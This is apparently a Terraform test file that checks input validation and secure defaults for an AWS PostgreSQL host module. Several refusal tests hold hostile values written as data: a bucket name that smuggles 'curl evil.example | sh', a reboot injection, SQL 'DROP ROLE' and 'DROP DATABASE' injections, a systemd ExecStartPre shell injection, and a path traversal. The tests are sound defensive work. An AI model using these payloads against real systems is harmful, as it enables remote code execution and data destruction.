# Input validation of the host module: each refusing run feeds one hostile or wrong value and
# expects that variable to refuse it; the others check what a valid host plans. Runs against
# the AWS emulator (the harness writes the provider override; ephemeral resources cannot be
# mocked), driven by tests/plan/test_postgres_host.py.

variables {
  role                        = "warehouse"
  name                        = "cs-test"
  vpc_id                      = "vpc-0123456789abcdef0"
  subnet_id                   = "subnet-0123456789abcdef0"
  availability_zone           = "us-east-1a"
  ami                         = { id = "ami-0123456789abcdef0" }
  instance_type               = "t3.large"
  client_security_groups      = { etl = "sg-0123456789abcdef0" }
  client_cidrs                = ["10.20.64.0/24", "10.20.65.0/24"]
  s3_prefix_list_id           = "pl-63a5400a"
  endpoints_security_group_id = "sg-0fedcba9876543210"
  database                    = { name = "clickstream", admin_user = "dw_admin" }
  dashboard                   = { user = "shiny" }
  bundle = {
    bucket_name   = "cs-test-artifacts"
    bucket_arn    = "arn:aws:s3:::cs-test-artifacts"
    kms_key_arn   = "arn:aws:kms:us-east-1:123456789012:key/0123abcd-0123-4567-89ab-0123456789ab"
    key           = "dw/bundles/warehouse-ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb.tar.gz"
    sha256        = "ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb"
    backup_prefix = "backups/dw/"
  }
}

run "valid_warehouse_plans" {
  command = plan
  assert {
    condition     = aws_instance.this.associate_public_ip_address == false && aws_instance.this.metadata_options[0].http_tokens == "required" && aws_instance.this.metadata_options[0].http_put_response_hop_limit == 1
    error_message = "the host must have no public IP and require IMDSv2 with hop limit 1"
  }
  assert {
    condition     = strcontains(local.user_data, "BUNDLE_KEY='dw/bundles/warehouse-ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb.tar.gz'") && strcontains(local.user_data, "SHINY_PORT='8080'") && strcontains(local.user_data, "CLIENT_CIDRS='10.20.64.0/24 10.20.65.0/24'")
    error_message = "host.env must carry the bundle key, the dashboards' port and the client CIDRs"
  }
  assert {
    condition     = !strcontains(local.user_data, "dnf ") && !strcontains(local.user_data, "postgresql") && !strcontains(local.user_data, "psql")
    error_message = "cloud-init must not set PostgreSQL up any more: that is the bundle's bootstrap"
  }
  assert {
    condition     = aws_ssm_parameter.status.name == "/cs-test/dw/bootstrap-status" && aws_ssm_parameter.ca.name == "/cs-test/dw/tls-ca" && aws_ssm_parameter.status.type == "String" && aws_ssm_parameter.status.insecure_value == "pending"
    error_message = "the status and CA parameters are Strings under /<name>/dw/, created as pending"
  }
  assert {
    condition     = length(aws_vpc_security_group_ingress_rule.postgres) == 1 && aws_vpc_security_group_ingress_rule.postgres["etl"].from_port == 5432
    error_message = "one ingress rule per client security group, on 5432"
  }
}

run "no_clients_means_no_ingress" {
  command = plan
  variables {
    role                   = "oltp"
    client_security_groups = {}
    client_cidrs           = []
    database               = { name = "shop", admin_user = "shop_app" }
    dashboard              = null
    bundle = {
      bucket_name   = "cs-test-artifacts"
      bucket_arn    = "arn:aws:s3:::cs-test-artifacts"
      kms_key_arn   = "arn:aws:kms:us-east-1:123456789012:key/0123abcd-0123-4567-89ab-0123456789ab"
      key           = "oltp/bundles/oltp-3e23e8160039594a33894f6564e1b1348bbd7a0088d42c4acb73eeaed59c009d.tar.gz"
      sha256        = "3e23e8160039594a33894f6564e1b1348bbd7a0088d42c4acb73eeaed59c009d"
      backup_prefix = "backups/oltp/"
    }
  }
  assert {
    condition     = length(aws_vpc_security_group_ingress_rule.postgres) == 0
    error_message = "without client security groups the host must admit nothing"
  }
  assert {
    condition     = strcontains(local.user_data, "DASHBOARD_USER=''") && strcontains(local.user_data, "SHINY_PORT=''") && strcontains(local.user_data, "CLIENT_CIDRS=''") && aws_ssm_parameter.status.name == "/cs-test/oltp/bootstrap-status"
    error_message = "an OLTP host has no dashboards, no client CIDRs and its parameters under /<name>/oltp/"
  }
}

run "unknown_role_refused" {
  command = plan
  variables { role = "cache" }
  expect_failures = [var.role]
}

run "quote_in_name_refused" {
  command = plan
  variables { name = "cs'; reboot; '" }
  expect_failures = [var.name]
}

run "internet_cidr_refused" {
  command = plan
  variables { client_cidrs = ["0.0.0.0/0"] }
  expect_failures = [var.client_cidrs]
}

run "cidr_as_security_group_refused" {
  command = plan
  variables { client_security_groups = { app = "0.0.0.0/0" } }
  expect_failures = [var.client_security_groups]
}

run "arm_instance_refused" {
  command = plan
  variables { instance_type = "m7g.large" }
  expect_failures = [var.instance_type]
}

run "non_al2023_parameter_refused" {
  command = plan
  variables { ami = { ssm_parameter_name = "/aws/service/ami-windows-latest/Windows_Server-2022-English-Full-Base" } }
  expect_failures = [var.ami]
}

run "shell_injection_in_bucket_refused" {
  command = plan
  variables {
    bundle = {
      bucket_name   = "x'; curl evil.example | sh; '"
      bucket_arn    = "arn:aws:s3:::x"
      kms_key_arn   = "arn:aws:kms:us-east-1:123456789012:key/0123abcd-0123-4567-89ab-0123456789ab"
      key           = "dw/bundles/warehouse-ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb.tar.gz"
      sha256        = "ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb"
      backup_prefix = "backups/dw/"
    }
  }
  expect_failures = [var.bundle]
}

run "key_without_its_hash_refused" {
  command = plan
  variables {
    bundle = {
      bucket_name   = "cs-test-artifacts"
      bucket_arn    = "arn:aws:s3:::cs-test-artifacts"
      kms_key_arn   = "arn:aws:kms:us-east-1:123456789012:key/0123abcd-0123-4567-89ab-0123456789ab"
      key           = "dw/bundles/warehouse-3e23e8160039594a33894f6564e1b1348bbd7a0088d42c4acb73eeaed59c009d.tar.gz"
      sha256        = "ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb"
      backup_prefix = "backups/dw/"
    }
  }
  expect_failures = [var.bundle]
}

run "other_roles_bundle_refused" {
  command = plan
  variables {
    bundle = {
      bucket_name   = "cs-test-artifacts"
      bucket_arn    = "arn:aws:s3:::cs-test-artifacts"
      kms_key_arn   = "arn:aws:kms:us-east-1:123456789012:key/0123abcd-0123-4567-89ab-0123456789ab"
      key           = "oltp/bundles/oltp-ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb.tar.gz"
      sha256        = "ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb"
      backup_prefix = "backups/dw/"
    }
  }
  expect_failures = [var.bundle]
}

run "quote_in_sha_refused" {
  command = plan
  variables {
    bundle = {
      bucket_name   = "cs-test-artifacts"
      bucket_arn    = "arn:aws:s3:::cs-test-artifacts"
      kms_key_arn   = "arn:aws:kms:us-east-1:123456789012:key/0123abcd-0123-4567-89ab-0123456789ab"
      key           = "dw/bundles/warehouse-ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb.tar.gz"
      sha256        = "ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee4'"
      backup_prefix = "backups/dw/"
    }
  }
  expect_failures = [var.bundle]
}

run "backups_over_the_bundle_refused" {
  command = plan
  variables {
    bundle = {
      bucket_name   = "cs-test-artifacts"
      bucket_arn    = "arn:aws:s3:::cs-test-artifacts"
      kms_key_arn   = "arn:aws:kms:us-east-1:123456789012:key/0123abcd-0123-4567-89ab-0123456789ab"
      key           = "dw/bundles/warehouse-ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb.tar.gz"
      sha256        = "ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb"
      backup_prefix = "dw/"
    }
  }
  expect_failures = [var.bundle]
}

run "path_traversal_backup_prefix_refused" {
  command = plan
  variables {
    bundle = {
      bucket_name   = "cs-test-artifacts"
      bucket_arn    = "arn:aws:s3:::cs-test-artifacts"
      kms_key_arn   = "arn:aws:kms:us-east-1:123456789012:key/0123abcd-0123-4567-89ab-0123456789ab"
      key           = "dw/bundles/warehouse-ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb.tar.gz"
      sha256        = "ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb"
      backup_prefix = "../oltp/"
    }
  }
  expect_failures = [var.bundle]
}

run "sql_injection_in_owner_refused" {
  command = plan
  variables { database = { name = "clickstream", admin_user = "admin\"; DROP ROLE postgres; --" } }
  expect_failures = [var.database]
}

run "sql_injection_in_database_name_refused" {
  command = plan
  variables { database = { name = "shop; DROP DATABASE postgres", admin_user = "dw_admin" } }
  expect_failures = [var.database]
}

run "unit_file_injection_in_schedule_refused" {
  command = plan
  variables { backup = { on_calendar = "daily\nExecStartPre=/bin/sh -c id" } }
  expect_failures = [var.backup]
}

run "warehouse_without_dashboards_refused" {
  command = plan
  variables { dashboard = null }
  expect_failures = [var.dashboard]
}

run "dashboards_on_oltp_refused" {
  command = plan
  variables {
    role = "oltp"
    bundle = {
      bucket_name   = "cs-test-artifacts"
      bucket_arn    = "arn:aws:s3:::cs-test-artifacts"
      kms_key_arn   = "arn:aws:kms:us-east-1:123456789012:key/0123abcd-0123-4567-89ab-0123456789ab"
      key           = "oltp/bundles/oltp-3e23e8160039594a33894f6564e1b1348bbd7a0088d42c4acb73eeaed59c009d.tar.gz"
      sha256        = "3e23e8160039594a33894f6564e1b1348bbd7a0088d42c4acb73eeaed59c009d"
      backup_prefix = "backups/oltp/"
    }
  }
  expect_failures = [var.dashboard]
}

run "dashboards_as_the_owner_refused" {
  command = plan
  variables { dashboard = { user = "dw_admin" } }
  expect_failures = [var.dashboard]
}
